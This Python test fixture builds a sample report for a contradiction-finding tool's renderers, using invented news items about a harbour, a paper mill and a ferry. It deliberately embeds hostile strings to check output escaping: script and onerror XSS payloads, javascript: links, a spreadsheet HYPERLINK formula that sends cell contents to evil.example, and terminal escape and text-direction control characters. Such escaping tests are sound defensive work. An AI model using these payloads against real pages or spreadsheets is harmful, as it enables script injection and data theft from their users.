"""A report made by hand, with every outcome and every kind of unpleasant text in it.

The golden files hold what each renderer makes of it. After a wanted change, write them anew and
read the difference before it goes in:

    python tests/renderers/sample_report.py
    git diff tests/renderers/golden
"""

from dataclasses import replace
from datetime import date
from pathlib import Path

from contradict.renderers import RENDERERS, write
from contradict.types import (
    Claim,
    Conflict,
    Counts,
    Document,
    History,
    Kind,
    Level,
    Outcome,
    Pair,
    Position,
    Report,
    Run,
    SlotDifference,
    Unread,
)

GOLDEN = Path(__file__).parent / "golden"

LEVELS: dict[Outcome, Level] = {
    "conflict": "error",
    "update": "warning",
    "disputed": "warning",
    "estimates": "note",
}

LONG = (
    "The harbour board, which had met behind closed doors for the better part of nine hours while "
    "delegations from the fishing fleet, the ferry operators and the two shipyards waited in the "
    "corridor with their lawyers, their accountants and, in one case, a brass band that nobody "
    "would afterwards admit to having hired, resolved that the new breakwater would cost 48 "
    "million crowns, that the work would be put out to tender before the end of the season, that "
    "the old mole would be kept as a promenade for the people of the town, and that the minutes "
    "of the meeting, which ran to some two hundred pages with their annexes, would be open to "
    "anyone who cared to come and read them in the reading room on the second floor of the "
    "customs house, on weekdays between ten and four."
)
SCRIPT = 'Aldo Finch said "<script>alert(1)</script>" was the code of the lift at 12 Quay Street.'
SCRIPT_ALSO = "Aldo Finch said '</script><img src=x onerror=alert(2)>' was the code of the lift."
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click") was typed into cell B7 of the budget.'
FORMULA_ALSO = "+3 was typed into cell B7 of the budget, see javascript:alert(3) for the sheet."
ESCAPES = (
    "The pilot light was \x1b[31mred\x1b[0m\x07 when the crew \u202eenod saw tfihs\u202c left."
)
MARKUP = "The pilot light was [bold]green[/bold] when the crew left, **they** say | _all_ of them."
HEBREW = "הגשר החדש נפתח לתנועה ביום ראשון, 3 במרץ."
HEBREW_ALSO = "הגשר החדש נפתח לתנועה ביום שלישי, 5 במרץ."

DOCUMENTS = (
    Document(
        "harbour/breakwater.txt",
        f"Board meets late.\n\n{LONG} The mayor left without a word.",
        "Harbour Wire",
        "Breakwater agreed after nine hours",
        date(2025, 11, 3),
    ),
    Document(
        "harbour/costs.html",
        "What the sea wall costs. The new breakwater would cost 84 million crowns, the harbour "
        "board resolved on Monday. The tender closes in April. Halvard Ness, 52, chairs the board.",
        "Coast Post",
        "What the sea wall costs",
        date(2025, 11, 4),
    ),
    Document(
        "mill/opening.txt",
        "Old mill, new life. The Orsa paper mill was founded in 1911 by two brothers. It closed "
        "for eleven years. The mill makes its envelopes in Tarnby, north of the lake. Eleven "
        "people were hurt when the drying hall burned, the brigade said. The hall was insured. "
        "The union says 400 workers walked out on Friday. Paper exports will grow by 2.1 percent "
        "next year, Bank Orla expects. The mill did not dump waste into the lake.",
        "Lake Courier",
        "Old mill, new life",
        date(2025, 10, 30),
    ),
    Document(
        "mill/history.txt",
        "The Orsa paper mill was founded in 1934 by two brothers. The mill makes its envelopes in "
        "Vesterby, on the coast. The number hurt in the fire at the drying hall has risen to 23. "
        "The company puts the walkout on Friday at 110 workers. Bank Tern expects paper exports "
        "to grow by 2.8 percent next year. Waste from the mill was dumped into the lake for years. "
        "The notebooks are bound in Halmstad by hand.",
        "Coast Post",
        "A mill and its brothers",
        date(2025, 11, 2),
    ),
    Document(
        "mill/undated.md",
        "The mill makes its envelopes in Tarnby. Halvard Ness, 57, chairs the board. The ferry "
        "Solveig is expected to sail again in June. The lighthouse stands on Gull Rock.",
    ),
    Document(
        "ferry.docx",
        "The ferry Solveig sailed again on 4 July. The lighthouse stands on Seal Rock. The "
        "minister says the ferry is safe. The strait should freeze for 20 days, the institute "
        "reckons. Ticket prices will rise to 30 crowns in spring.",
        "Strait Radio",
        "Back at sea",
        date(2025, 7, 5),
    ),
    Document(
        "island.csv, row 3",
        "The inspector says the ferry is not safe. The strait should freeze for 35 days, says the "
        "weather service. Ticket prices rose to 34 crowns in April. The museum opened on Sunday.",
        "Island Gazette",
        "",
        date(2025, 7, 9),
    ),
    Document(
        "hostile/one.txt",
        f"{SCRIPT} {FORMULA} {ESCAPES} {HEBREW}",
        '"><script>alert(4)</script>',
        "javascript:alert(5)",
        date(2025, 1, 1),
    ),
    Document(
        "hostile/two.txt",
        f"{SCRIPT_ALSO} {FORMULA_ALSO} {MARKUP} {HEBREW_ALSO}",
        "' onmouseover='alert(6)",
        "<b>Bold</b> & [link](http://evil.example)",
    ),
    *(
        Document(
            f"agency/{number:02}.txt",
            "The tower on Gull Rock is 30 metres high, by the agency's count.",
            f"Paper No. {number}",
            "Tower measured",
            date(2025, 5, number),
        )
        for number in range(1, 31)
    ),
    Document(
        "survey.pdf",
        "Surveyors found the tower on Gull Rock to be 42 metres high.",
        "Survey Office",
        "Heights of towers",
        date(2025, 6, 1),
    ),
)

TEXTS = {document.id: document for document in DOCUMENTS}


def claim(id: str, text: str) -> Claim:
    document = TEXTS[id]
    start = document.text.index(text)
    return Claim(
        document=id,
        start_char=start,
        end_char=start + len(text),
        text=text,
        resolved=text,
        source=document.source,
        title=document.title,
        published=document.published,
    )


def pair(
    left: Claim,
    right: Claim,
    outcome: Outcome,
    kind: Kind,
    reason: str,
    *values: tuple[str, str],
    score: float = 0.9,
) -> Pair:
    return Pair(
        left=left,
        right=right,
        similarity=0.81234567,
        contradiction=0.96,
        entailment=0.01,
        outcome=outcome,
        kind=kind,
        reason=reason,
        score=score,
        slots=tuple(SlotDifference(kind, one, other) for one, other in values),
    )


BREAKWATER = claim("harbour/breakwater.txt", LONG)
BREAKWATER_ALSO = claim(
    "harbour/costs.html",
    "The new breakwater would cost 84 million crowns, the harbour board resolved on Monday.",
)
ENVELOPES = claim("mill/opening.txt", "The mill makes its envelopes in Tarnby, north of the lake.")
ENVELOPES_TOO = claim("mill/undated.md", "The mill makes its envelopes in Tarnby.")
ENVELOPES_ALSO = claim(
    "mill/history.txt", "The mill makes its envelopes in Vesterby, on the coast."
)
NOTEBOOKS = claim("mill/history.txt", "The notebooks are bound in Halmstad by hand.")
AGENCY = tuple(
    claim(document.id, document.text) for document in DOCUMENTS if document.id.startswith("agency")
)
SURVEY = claim("survey.pdf", TEXTS["survey.pdf"].text)

# Outcome, kind, summary, left and right claim, reason, differing values: one pair each.
Row = tuple[Outcome, Kind, str, tuple[str, str], tuple[str, str], str, tuple[str, str]]
SIMPLE: tuple[Row, ...] = (
    (
        "conflict",
        "date",
        "when the Orsa paper mill was founded",
        ("mill/opening.txt", "The Orsa paper mill was founded in 1911 by two brothers."),
        ("mill/history.txt", "The Orsa paper mill was founded in 1934 by two brothers."),
        "1911 and 1934 are different years",
        ("1911", "1934"),
    ),
    (
        "conflict",
        "number",
        "how old Halvard Ness is",
        ("harbour/costs.html", "Halvard Ness, 52, chairs the board."),
        ("mill/undated.md", "Halvard Ness, 57, chairs the board."),
        "52 and 57 differ by more than either's precision",
        ("52", "57"),
    ),
    (
        "update",
        "number",
        "how many people were hurt when the drying hall burned",
        (
            "mill/opening.txt",
            "Eleven people were hurt when the drying hall burned, the brigade said.",
        ),
        (
            "mill/history.txt",
            "The number hurt in the fire at the drying hall has risen to 23.",
        ),
        "a running count: the later figure is the larger one",
        ("Eleven people", "23"),
    ),
    (
        "disputed",
        "number",
        "how many workers walked out on Friday",
        ("mill/opening.txt", "The union says 400 workers walked out on Friday."),
        ("mill/history.txt", "The company puts the walkout on Friday at 110 workers."),
        "two named speakers give different figures",
        ("400 workers", "110 workers"),
    ),
    (
        "conflict",
        "other",
        "what the code of the lift was <script>alert(7)</script>",
        ("hostile/one.txt", SCRIPT),
        ("hostile/two.txt", SCRIPT_ALSO),
        "the quoted codes differ",
        ("<script>alert(1)</script>", "</script><img src=x onerror=alert(2)>"),
    ),
    (
        "estimates",
        "number",
        "by how much paper exports will grow next year",
        (
            "mill/opening.txt",
            "Paper exports will grow by 2.1 percent next year, Bank Orla expects.",
        ),
        (
            "mill/history.txt",
            "Bank Tern expects paper exports to grow by 2.8 percent next year.",
        ),
        "forecasts of two institutions",
        ("2.1 percent", "2.8 percent"),
    ),
    (
        "update",
        "date",
        "when the ferry Solveig sails again",
        ("mill/undated.md", "The ferry Solveig is expected to sail again in June."),
        ("ferry.docx", "The ferry Solveig sailed again on 4 July."),
        "a plan, then its outcome",
        ("June", "4 July"),
    ),
    (
        "disputed",
        "negation",
        "whether the mill dumped waste into the lake",
        ("mill/opening.txt", "The mill did not dump waste into the lake."),
        ("mill/history.txt", "Waste from the mill was dumped into the lake for years."),
        "one denies what the other asserts",
        ("not", ""),
    ),
    (
        "conflict",
        "name",
        "on which rock the lighthouse stands",
        ("mill/undated.md", "The lighthouse stands on Gull Rock."),
        ("ferry.docx", "The lighthouse stands on Seal Rock."),
        "two names for one thing",
        ("Gull Rock", "Seal Rock"),
    ),
    (
        "update",
        "number",
        "what a ticket costs",
        ("ferry.docx", "Ticket prices will rise to 30 crowns in spring."),
        ("island.csv, row 3", "Ticket prices rose to 34 crowns in April."),
        "a plan, then its outcome",
        ("30 crowns", "34 crowns"),
    ),
    (
        "update",
        "other",
        "=what was typed into cell B7",
        ("hostile/one.txt", FORMULA),
        ("hostile/two.txt", FORMULA_ALSO),
        "@the later sheet replaces the earlier",
        ("=HYPERLINK", "+3"),
    ),
    (
        "disputed",
        "status",
        "whether the ferry is safe",
        ("ferry.docx", "The minister says the ferry is safe."),
        ("island.csv, row 3", "The inspector says the ferry is not safe."),
        "two named speakers disagree",
        ("safe", "not safe"),
    ),
    (
        "disputed",
        "other",
        "what colour the pilot light was",
        ("hostile/one.txt", ESCAPES),
        ("hostile/two.txt", MARKUP),
        "two colours \x1b[2J of one light",
        ("\x1b[31mred\x1b[0m", "[bold]green[/bold]"),
    ),
    (
        "estimates",
        "number",
        "for how long the strait will freeze",
        ("ferry.docx", "The strait should freeze for 20 days, the institute reckons."),
        (
            "island.csv, row 3",
            "The strait should freeze for 35 days, says the weather service.",
        ),
        "forecasts of two institutions",
        ("20 days", "35 days"),
    ),
    (
        "estimates",
        "date",
        "באיזה יום נפתח הגשר",
        ("hostile/one.txt", HEBREW),
        ("hostile/two.txt", HEBREW_ALSO),
        "two days",
        ("3 במרץ", "5 במרץ"),
    ),
)


def conflicts() -> tuple[Conflict, ...]:
    found = [_breakwater(), _envelopes(), *map(_simple, SIMPLE), _tower()]
    return tuple(
        Conflict(
            id=f"q{rank:04}",
            rank=rank,
            score=round(0.97 - 0.05 * (rank - 1), 2),
            level=LEVELS[pairs[0].outcome],
            outcome=pairs[0].outcome,
            kind=pairs[0].kind,
            summary=summary,
            positions=positions,
            pairs=pairs,
        )
        for rank, (summary, positions, pairs) in enumerate(found, 1)
    )


Found = tuple[str, tuple[Position, ...], tuple[Pair, ...]]


def _breakwater() -> Found:
    only = pair(
        BREAKWATER,
        BREAKWATER_ALSO,
        "conflict",
        "number",
        "48 million and 84 million differ; the digits are swapped",
        ("48 million crowns", "84 million crowns"),
    )
    sides = (
        Position("48 million crowns", 1, (BREAKWATER,)),
        Position("84 million crowns", 1, (BREAKWATER_ALSO,)),
    )
    return "what the new breakwater would cost", sides, (only,)


def _envelopes() -> Found:
    reason = "Tarnby and Vesterby are different places"
    values = ("Tarnby", "Vesterby")
    pairs = (
        pair(ENVELOPES, ENVELOPES_ALSO, "conflict", "place", reason, values),
        pair(ENVELOPES_TOO, ENVELOPES_ALSO, "conflict", "place", reason, values),
        pair(
            ENVELOPES,
            NOTEBOOKS,
            "compatible",
            "place",
            "different subjects: envelopes and notebooks",
            ("Tarnby", "Halmstad"),
        ),
    )
    sides = (
        Position("Tarnby", 2, (ENVELOPES, ENVELOPES_TOO)),
        Position("Vesterby", 1, (ENVELOPES_ALSO,)),
    )
    return "where the mill makes its envelopes", sides, pairs


def _simple(row: Row) -> Found:
    outcome, kind, summary, left, right, reason, values = row
    one, other = claim(*left), claim(*right)
    sides = (Position(values[0], 1, (one,)), Position(values[1], 1, (other,)))
    return summary, sides, (pair(one, other, outcome, kind, reason, values),)


def _tower() -> Found:
    values = ("30 metres", "42 metres")
    pairs = tuple(
        pair(each, SURVEY, "estimates", "number", "two measurements", values) for each in AGENCY[:5]
    )
    sides = (Position("30 metres", 1, AGENCY), Position("42 metres", 1, (SURVEY,)))
    return "how high the tower on Gull Rock is", sides, pairs


CONFLICTS = conflicts()
COUNTS = Counts(
    documents=len(DOCUMENTS),
    claims=1412,
    claims_left_out=31,
    pairs=1250,
    compared=904,
    reused=300,
    conflicts=len(CONFLICTS),
    left_out={"question": 19, "no subject": 9, "<i>too short</i>": 3},
    refused={"other subject": 1010, "restatement": 150, "rounding": 26},
)
REPORT = Report(
    run=Run(
        started="2025-11-05T05:00:00+00:00",
        version="0.1.0",
        models={"encoder": "all-MiniLM-L6-v2", "comparator": "slots+nli"},
        settings={"neighbours": 20, "floor": 0.45, "same_document": True},
        counts=COUNTS,
    ),
    documents=DOCUMENTS,
    origins={document.id: document.id for document in DOCUMENTS}
    | {claim.document: "agency/01.txt" for claim in AGENCY},
    unread=(
        Unread("scans/page-07.pdf", "no text in it: a scan without a text layer"),
        Unread("locked_[draft].docx", "encrypted <password needed>"),
    ),
    conflicts=CONFLICTS,
    clusters=((ENVELOPES, ENVELOPES_ALSO, ENVELOPES_TOO),),
)
RESOLVED = replace(CONFLICTS[5], id="r0001", rank=2)
NIGHTLY = replace(
    REPORT,
    run=replace(
        REPORT.run,
        counts=replace(COUNTS, split=2, encoded=64, judged={"wrong": 2, "known": 1}),
    ),
    conflicts=CONFLICTS[:3],
    history=History(
        previous="2025-11-04T05:00:00+00:00",
        status={"q0001": "new", "q0002": "open", "q0003": "open"},
        resolved=(RESOLVED,),
        documents={"new": 2, "changed": 1, "vanished": 0},
    ),
)
"""The report of a nightly run that is not the first."""

CLEAN = Report(
    run=Run("2025-11-05T05:00:00+00:00", "0.1.0", {}, {}, Counts(2, 40, pairs=12, compared=12)),
    documents=DOCUMENTS[:2],
    origins={},
    unread=(),
    conflicts=(),
)


if __name__ == "__main__":
    for name in RENDERERS:
        write(REPORT, GOLDEN / f"report.{name}", name)
